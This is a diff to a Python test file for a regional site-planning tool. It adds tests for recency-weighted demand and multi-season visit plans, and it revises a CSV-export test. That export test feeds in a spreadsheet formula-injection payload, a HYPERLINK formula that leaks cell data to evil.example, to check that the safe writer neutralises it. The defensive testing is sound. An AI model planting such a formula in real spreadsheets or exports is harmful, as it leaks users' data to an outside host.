@@ -238,8 +238,65 @@ def test_selection_csv_goes_through_the_safe_writer(
     hostile.loc[0, "name"] = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")'
     hostile.loc[1, "name"] = "@SUM(A1)"
     selection = select_sites(pack, SelectionRequest(p=2), sites=hostile, minutes=minutes)
-    rows = list(csv.DictReader(io.StringIO(selection.csv_bytes("de").decode("utf-8"))))
+    text = selection.csv_bytes("de").decode("utf-8-sig")
+    # the export's layout (separator, translated headers) is the export's: read it as it comes
+    delimiter = ";" if ";" in text.splitlines()[0] else ","
+    _header, *rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
     assert len(rows) == len(sites)
-    names = [r["name"] for r in rows]
-    assert names[0] == "'" + hostile.loc[0, "name"] and names[1] == "'@SUM(A1)"
-    assert not [v for r in rows for v in r.values() if v[:1] in ("=", "+", "@")]
+    cells = [v for r in rows for v in r]
+    assert "'" + hostile.loc[0, "name"] in cells and "'@SUM(A1)" in cells
+    assert not [v for v in cells if v[:1] in ("=", "+", "@")]
+
+
+# --- issue 16: recency-weighted demand and the multi-season view ---------------------------------
+
+
+def test_recency_weights_demand_of_a_recently_visited_amt(
+    pack: RegionPack, small: tuple[pd.DataFrame, np.ndarray]
+) -> None:
+    from planner.history import History
+    from planner.selection.region import recency_weights
+
+    history = History.from_pack(pack)
+    weights = recency_weights(pack, 2026, history=history)
+    preetz = pack.cells["ags"].to_numpy() == "01057062"  # Preetz: a stop in 2025
+    assert (weights[preetz] == 0.5).all()
+    assert (weights[pack.cells["ags"].to_numpy() == "01057001"] == 1.0).all()  # Ascheberg
+    sites, minutes = small
+    plain = select_sites(pack, SelectionRequest(p=2), sites=sites, minutes=minutes)
+    recent = select_sites(
+        pack, SelectionRequest(p=2, recency_year=2026), sites=sites, minutes=minutes
+    )
+    # the objective counts Preetz's people half: never more than without recency
+    assert recent.result.objective <= plain.result.objective + 1e-6
+    assert SelectionRequest.defaults()["recency_year"] is None  # an option, not the default
+
+
+def test_multi_season_view_visits_every_amt_within_k_seasons() -> None:
+    from test_history import toy_pack
+
+    from planner.selection.seasons import plan_seasons_ahead
+
+    pack = toy_pack(past=[(2025, "01999001")])
+    plan = plan_seasons_ahead(pack, seasons=3, per_season=1, time_limit=20)
+    assert plan.years == (2026, 2027, 2028)
+    assert plan.status == "optimal" and plan.gap <= 1e-4
+    visited = [site for season in plan.seasons for site in season]
+    assert sorted(visited) == ["s1", "s2", "s3"]  # every Amt, each place once
+    # Amt A was visited last season: it comes last, when its people count fully again
+    assert plan.seasons[0] != ("s1",)
+    assert plan.amt_visits["season"].notna().all()
+
+
+def test_multi_season_view_names_a_cover_that_cannot_hold() -> None:
+    from test_history import toy_pack
+
+    from planner.errors import RulesError
+    from planner.selection.seasons import plan_seasons_ahead
+
+    pack = toy_pack()
+    with pytest.raises(RulesError, match=r"Testkreis has 3 Ämter but only 1 stops per season × 2"):
+        plan_seasons_ahead(pack, seasons=2, per_season=1, quotas={"Testkreis": 1})
+    pack.sites = pack.sites[pack.sites["site_id"] != "s3"]
+    with pytest.raises(RulesError, match=r"no candidate site in Amt 019990003 Amt C"):
+        plan_seasons_ahead(pack, seasons=3, per_season=1)
